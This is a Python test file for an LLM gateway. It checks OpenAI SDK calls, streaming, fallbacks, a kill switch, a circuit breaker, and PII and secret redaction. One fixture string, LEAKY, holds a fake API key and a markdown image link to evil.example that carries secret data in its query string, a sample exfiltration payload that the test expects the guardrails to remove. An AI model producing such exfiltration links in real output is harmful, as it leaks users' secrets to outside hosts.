"""The official `openai` SDK (sync, async, streaming) against the gateway on 127.0.0.1, in
front of a local server that speaks the OpenAI protocol: answers, usage, chunks in order,
models, embeddings, fallbacks and the kill switch marked, a non-chat target as a model."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import openai
import pytest
from guardkit import http
from openai_kit import NO_OUTPUT_GUARD, chat_gateway, upstream

from phaseone.store.settings import set_kill_switch
from servers import JsonServer, OpenAIServer

HELLO = [{"role": "user", "content": "tell me about the weather in Lisbon today"}]


@pytest.fixture
def llm() -> Iterator[OpenAIServer]:
    with OpenAIServer() as s:
        yield s


def test_answer_and_usage_through_the_sdk(tmp_path: Path, llm: OpenAIServer) -> None:
    models = [{"name": "support", "upstreams": [upstream(llm.url)]}]
    with chat_gateway(tmp_path, models) as gw:
        raw = gw.client().chat.completions.with_raw_response.create(
            model="support",
            messages=[{"role": "system", "content": "be brief"}, *HELLO],
            max_tokens=40,
            temperature=0.2,
        )
        answer = raw.parse()
        assert answer.choices[0].message.content == HELLO[0]["content"]
        assert answer.model == "support"  # the public name, not the upstream's
        assert answer.usage is not None
        # the local server counts words: 2 (system) + 8 (user) in, 8 out
        assert (answer.usage.prompt_tokens, answer.usage.completion_tokens) == (10, 8)
        assert raw.headers["x-phaseone-route"] == "primary"
        sent = llm.last.body
        assert sent["model"] == "local-model"  # the upstream's own model name
        assert sent["temperature"] == 0.2 and sent["max_tokens"] == 40  # passed on as sent
        assert [m["role"] for m in sent["messages"]] == ["system", "user"]
        trace = gw.trace(raw.headers["x-request-id"])
        assert (trace.status_code, trace.route, trace.outcome) == (200, "primary", "ok")
        assert (trace.input_tokens, trace.output_tokens) == (10, 8)
        assert (trace.model, trace.target_version) == ("support", "local-model")
        assert trace.ttft_ms is None  # not streamed


def test_streamed_chunks_arrive_in_order_with_usage_last(tmp_path: Path, llm: OpenAIServer) -> None:
    models = [{"name": "support", "upstreams": [upstream(llm.url)]}]
    with chat_gateway(tmp_path, models, NO_OUTPUT_GUARD) as gw:
        client = gw.client()
        chunks = list(
            client.chat.completions.create(
                model="support",
                messages=HELLO,
                stream=True,
                stream_options={"include_usage": True},
            )
        )
        texts = [
            c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta.content
        ]
        assert texts == ["tell", " me", " about", " the", " weather", " in", " Lisbon", " today"]
        assert chunks[0].choices[0].delta.role == "assistant"
        assert chunks[-1].choices == [] and chunks[-1].usage is not None
        assert chunks[-1].usage.completion_tokens == 8
        assert all(c.model == "support" for c in chunks)
        # negative control: without include_usage no usage chunk is sent
        plain = list(client.chat.completions.create(model="support", messages=HELLO, stream=True))
        assert all(c.usage is None for c in plain) and plain[-1].choices


def test_async_client_whole_and_streamed(tmp_path: Path, llm: OpenAIServer) -> None:
    models = [{"name": "support", "upstreams": [upstream(llm.url)]}]
    with chat_gateway(tmp_path, models) as gw:

        async def run() -> tuple[str | None, str]:
            client = gw.async_client()
            whole = await client.chat.completions.create(model="support", messages=HELLO)
            stream = await client.chat.completions.create(
                model="support", messages=HELLO, stream=True
            )
            parts = [c.choices[0].delta.content or "" async for c in stream if c.choices]
            await client.close()
            return whole.choices[0].message.content, "".join(parts)

        whole, streamed = asyncio.run(run())
        assert whole == streamed == HELLO[0]["content"]


def test_models_and_embeddings(tmp_path: Path, llm: OpenAIServer) -> None:
    models = [
        {"name": "support", "upstreams": [upstream(llm.url)]},
        {"name": "embedder", "upstreams": [upstream(llm.url)]},
    ]
    with chat_gateway(tmp_path, models) as gw:
        client = gw.client()
        assert sorted(m.id for m in client.models.list()) == ["embedder", "support"]
        emb = client.embeddings.create(model="embedder", input=["hello world", "abc"])
        assert [d.embedding for d in emb.data] == [[11.0, 2.0, 3.0], [3.0, 1.0, 1.0]]
        assert emb.model == "embedder"
        with pytest.raises(openai.AuthenticationError):
            gw.client(key="p1_00000000_" + "a" * 43).models.list()


def test_fallback_upstream_answers_and_is_marked(tmp_path: Path, llm: OpenAIServer) -> None:
    with OpenAIServer(mode="status", status=500) as broken:
        models = [
            {"name": "flaky", "upstreams": [upstream(broken.url), upstream(llm.url)]},
            {"name": "healthy", "upstreams": [upstream(llm.url), upstream(broken.url)]},
        ]
        with chat_gateway(tmp_path, models) as gw:
            client = gw.client()
            raw = client.chat.completions.with_raw_response.create(model="flaky", messages=HELLO)
            assert raw.parse().choices[0].message.content == HELLO[0]["content"]
            assert raw.headers["x-phaseone-route"] == "fallback"
            assert broken.requests == 1
            trace = gw.trace(raw.headers["x-request-id"])
            assert (trace.route, trace.outcome) == ("fallback", "fallback")
            assert trace.error_kind == "target_error"  # why: the first upstream's HTTP 500
            # streamed too: the fallback starts the stream
            stream = client.chat.completions.with_raw_response.create(
                model="flaky", messages=HELLO, stream=True
            )
            assert stream.headers["x-phaseone-route"] == "fallback"
            assert "".join(c.choices[0].delta.content or "" for c in stream.parse() if c.choices)
            # negative control: a healthy first upstream answers as primary
            ok = client.chat.completions.with_raw_response.create(model="healthy", messages=HELLO)
            assert ok.headers["x-phaseone-route"] == "primary"
            assert gw.trace(ok.headers["x-request-id"]).error_kind is None
            assert gw.trace(stream.headers["x-request-id"]).error_kind == "target_error"
            assert broken.requests == 2  # only the flaky model's two calls reached it
            metrics = gw.guard.metrics
            assert metrics is not None and metrics.degraded["fallback"] == 2


def test_kill_switch_answers_the_static_message_in_openai_shape(
    tmp_path: Path, llm: OpenAIServer
) -> None:
    models = [{"name": "support", "upstreams": [upstream(llm.url)]}]
    controls = {
        "resilience": {"timeout_s": 5, "retries": 0, "fallback": {"static": "We are on it."}}
    }
    with chat_gateway(tmp_path, models, controls) as gw:
        client = gw.client()
        before = client.chat.completions.with_raw_response.create(model="support", messages=HELLO)
        assert before.headers["x-phaseone-route"] == "primary"  # negative control
        set_kill_switch(gw.store, "chatgw", True)
        gw.guard.kill_switch.refresh()
        raw = client.chat.completions.with_raw_response.create(model="support", messages=HELLO)
        assert raw.parse().choices[0].message.content == "We are on it."
        assert raw.headers["x-phaseone-route"] == "kill_switch"
        calls = llm.requests
        streamed = list(
            client.chat.completions.create(model="support", messages=HELLO, stream=True)
        )
        assert "".join(c.choices[0].delta.content or "" for c in streamed if c.choices) == (
            "We are on it."
        )
        assert llm.requests == calls  # the upstream is not called while the switch is on


def test_a_python_or_http_target_is_served_as_a_chat_model(tmp_path: Path) -> None:
    with JsonServer() as service:
        target = {"kind": "http", "url": service.url + "/answer", "price": {"per_call": 0.01}}
        with chat_gateway(tmp_path, None, target=target) as gw:
            client = gw.client()
            assert [m.id for m in client.models.list()] == ["chatgw"]  # the project's name
            answer = client.chat.completions.create(
                model="chatgw",
                messages=[
                    {"role": "system", "content": "you sort mail"},
                    {"role": "user", "content": "first question"},
                    {"role": "assistant", "content": "first answer"},
                    {"role": "user", "content": "where is my parcel"},
                ],
            )
            # the target receives the last user message, its output is the answer
            assert service.last.body == {"input": "where is my parcel"}
            assert answer.choices[0].message.content == "where is my parcel"
            stream = client.chat.completions.create(
                model="chatgw", messages=[{"role": "user", "content": "hi"}], stream=True
            )
            assert "".join(c.choices[0].delta.content or "" for c in stream if c.choices) == "hi"
            # /v1/invoke keeps working beside it
            status, _, body = http(gw.url + "/v1/invoke", {"input": "plain"}, key=gw.key)
            assert (status, body["output"]) == (200, "plain")


LEAKY = (
    "Sure. Write to dana.okafor@example.com and use the key sk-abcdefghijklmnopqrstuvwxyz0123"
    " then see ![x](https://evil.example/c?d=secretdata123) for more"
)


def test_pii_and_secrets_in_an_answer_never_leave_whole_or_streamed(tmp_path: Path) -> None:
    with OpenAIServer(reply=lambda messages, payload: LEAKY) as leaky:
        models = [{"name": "support", "upstreams": [upstream(leaky.url)]}]
        controls = {"guardrails": {"pii": {"action": "redact"}}}
        (tmp_path / "on").mkdir()
        with chat_gateway(tmp_path / "on", models, controls) as gw:
            client = gw.client()
            whole = client.chat.completions.with_raw_response.create(
                model="support", messages=HELLO
            )
            text = whole.parse().choices[0].message.content or ""
            chunks = list(
                client.chat.completions.create(model="support", messages=HELLO, stream=True)
            )
            streamed = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
            for answer in (text, streamed):
                assert "dana.okafor@example.com" not in answer
                assert "sk-abcdefghijklmnopqrstuvwxyz0123" not in answer
                assert "evil.example" not in answer
                assert answer.startswith("Sure. Write to [EMAIL]")
            assert len(chunks) > 3  # it was streamed in pieces, not held whole
            trace = gw.trace(whole.headers["x-request-id"])
            kinds = {f["type"] for f in trace.findings}
            assert {"output_pii", "secret", "exfiltration"} <= kinds
            assert "dana.okafor" not in str(trace.output)
        # negative control: with the output guardrails off the same answer passes as it is
        off = {"guardrails": {"output": {"pii": "off", "secrets": "off", "exfiltration": "off"}}}
        (tmp_path / "off").mkdir()
        with chat_gateway(tmp_path / "off", models, off) as gw:
            raw = gw.client().chat.completions.create(model="support", messages=HELLO)
            assert raw.choices[0].message.content == LEAKY


def test_pii_in_any_message_is_redacted_before_the_upstream(
    tmp_path: Path, llm: OpenAIServer
) -> None:
    models = [{"name": "support", "upstreams": [upstream(llm.url)]}]
    call = {"id": "c1", "type": "function", "function": {"name": "crm", "arguments": "{}"}}
    messages = [
        {"role": "system", "content": "The account owner is jane.doe@example.com."},
        {"role": "user", "content": "Who owns my account?"},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": "owner: bob.smith@example.org"},
    ]
    for action in ("redact", "off"):
        (tmp_path / action).mkdir()
        controls = {"guardrails": {"pii": {"action": action}}}
        with chat_gateway(tmp_path / action, models, controls) as gw:
            gw.client().chat.completions.create(model="support", messages=messages)
            sent = llm.last.body["messages"]
            assert [m["role"] for m in sent] == ["system", "user", "assistant", "tool"]
            assert sent[2]["tool_calls"] == [call] and sent[3]["tool_call_id"] == "c1"
            if action == "redact":
                assert sent[0]["content"] == "The account owner is [EMAIL]."
                assert sent[3]["content"] == "owner: [EMAIL]"
            else:  # the negative control: without the guardrail the addresses go through
                assert "jane.doe@example.com" in sent[0]["content"]
                assert "bob.smith@example.org" in sent[3]["content"]


def test_a_failing_upstream_trips_its_circuit_breaker(tmp_path: Path, llm: OpenAIServer) -> None:
    with OpenAIServer(mode="status", status=500) as broken:
        models = [
            {"name": "flaky", "upstreams": [upstream(broken.url), upstream(llm.url)]},
            {"name": "dead", "upstreams": [upstream(broken.url)]},
        ]
        breaker = {"failure_threshold": 2, "reset_after_s": 60}
        controls = {"resilience": {"timeout_s": 5, "retries": 0, "circuit_breaker": breaker}}
        with chat_gateway(tmp_path, models, controls) as gw:
            client = gw.client()
            for _ in range(4):
                answer = client.chat.completions.create(model="flaky", messages=HELLO)
                assert answer.choices[0].message.content == HELLO[0]["content"]
            # the first two calls reached the broken upstream and opened its breaker; the
            # next two went straight to the fallback
            assert broken.requests == 2
            with pytest.raises(openai.InternalServerError) as info:
                client.chat.completions.create(model="dead", messages=HELLO)
            assert info.value.status_code == 503
            assert info.value.response.json()["error"]["code"] == "circuit_open"
            assert broken.requests == 2  # the open breaker is not called at all
